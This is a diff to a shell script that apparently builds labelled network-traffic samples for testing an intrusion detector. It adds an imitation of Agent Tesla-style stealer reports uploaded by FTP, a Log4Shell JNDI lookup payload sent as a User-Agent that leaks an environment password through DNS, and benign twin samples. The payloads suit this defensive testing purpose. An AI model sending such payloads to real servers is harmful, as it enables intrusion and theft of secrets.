@@ -375,5 +375,79 @@ Five hosts (10.20.0.10 to .14, one machine with five addresses) ask four questio
 TEXT
 }
 
+# --- reports and lookups --------------------------------------------------------------------------------------
+
+# hand_in HOST NAME: a page of text goes to an FTP server under this name.
+hand_in() {
+    printf 'Time: 11/26/2026 12:00:00<br>User Name: jane<br>Computer Name: DESKTOP-7<br><hr>nothing<br>' >"$work/page"
+    on client curl -s --max-time 5 -o /dev/null -T "$work/page" "ftp://alice:summer2026@$1/$2" || true
+}
+
+sample_stealer_report() {
+    begin stealer_report
+    ftp_server server
+    settle_all
+    watch
+    hand_in 203.0.113.50 PW_jane-DESKTOP-7_2026_11_26_12_00_00.html
+    hand_in 203.0.113.50 KL_jane-DESKTOP-7_2026_11_26_12_20_00.html
+    watched
+    expect exfiltration 10.20.0.10 203.0.113.50 "two files named as a stealer names them"
+    origin "Reports of a keylogger, by FTP" <<'TEXT'
+curl on 10.20.0.10 puts two small files on vsftpd at 203.0.113.50 (alice), named as Agent Tesla names what it found: a code for the content, user, machine, time. The
+files hold nothing.
+TEXT
+}
+
+sample_twin_ftp_backup() {
+    begin twin_ftp_backup
+    ftp_server
+    settle_all
+    watch
+    hand_in 10.20.0.20 jane-DESKTOP-7_2026_11_26_12_00_00.zip
+    hand_in 10.20.0.20 backup-2026-11-26.tar.gz
+    watched
+    quiet
+    origin "A backup of a workstation, by FTP" <<'TEXT'
+curl on 10.20.0.10 puts two files on vsftpd at the internal server 10.20.0.20 (alice), one of them named after user, machine and time.
+TEXT
+}
+
+# ask_with EXPRESSION: a request from outside whose User-Agent is this.
+ask_with() { on stranger curl -s --max-time 3 -o /dev/null -A "$1" http://10.20.0.20/; }
+
+sample_lookup_obeyed() {
+    begin lookup_obeyed
+    start desk python3 "$here/scripts/samples/services.py" web 80
+    sleep 1
+    settle_all
+    watch
+    # shellcheck disable=SC2016 # the expression is for the server
+    ask_with '${jndi:dns://198.51.100.66/${env:DB_PASSWORD}}'
+    # What a server with Log4j 2.14 does with it; nobody listens at the other end.
+    on desk dig +tries=1 +timeout=1 @198.51.100.66 hunter2 TXT >/dev/null || true
+    watched
+    expect exfiltration 10.20.0.20 198.51.100.66 "a secret of the environment in a DNS question"
+    origin "A lookup in a request, and the server that obeys it" <<'TEXT'
+curl on 198.51.100.66 sends a request with ${jndi:dns://198.51.100.66/${env:DB_PASSWORD}} as its User-Agent to the web server on 10.20.0.20. dig on 10.20.0.20 then asks 198.51.100.66 for
+the name hunter2 (TXT), as Log4j 2.14 would with that password in its environment. Nobody answers.
+TEXT
+}
+
+sample_twin_lookup_ignored() {
+    begin twin_lookup_ignored
+    start desk python3 "$here/scripts/samples/services.py" web 80
+    sleep 1
+    settle_all
+    watch
+    on desk dig +tries=1 +timeout=1 @203.0.113.53 www.example.com TXT >/dev/null || true
+    on stranger curl -s --max-time 3 -o /dev/null http://10.20.0.20/
+    on stranger curl -s --max-time 3 -o /dev/null 'http://10.20.0.20/?q=jndi+ldap+configuration'
+    watched
+    quiet
+    origin "Somebody searches for documentation of JNDI" <<'TEXT'
+curl on 198.51.100.66 asks the web server on 10.20.0.20 for two pages, one with the words jndi and ldap in its query; 10.20.0.20 asks its resolver for a name.
+TEXT
+}
+
 all+=(tor twin_tls_9001 remote_vnc twin_vnc_inside roasting twin_tickets modbus_write twin_modbus_hmi strobe twin_strobe_inside rare_contact twin_common_place
-    behaviour_change twin_monday)
+    behaviour_change twin_monday stealer_report twin_ftp_backup lookup_obeyed twin_lookup_ignored)
